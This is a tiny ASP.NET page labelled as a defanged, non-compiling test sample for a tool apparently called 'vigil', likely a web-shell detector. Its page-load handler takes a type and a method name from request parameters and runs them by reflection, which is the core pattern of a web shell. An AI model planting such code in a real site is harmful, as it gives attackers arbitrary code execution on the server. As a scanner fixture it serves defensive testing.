<%@ Page Language="C#" %>
<%-- DEFANGED vigil test sample (see README) --%>
<% DEFANGED SAMPLE does not compile %>
<script runat="server">
void Page_Load() {
	Type t = Type.GetType(Request["t"]);
	object o = Activator.CreateInstance(t);
	t.GetMethod(Request["m"]).Invoke(o, null);
}
</script>
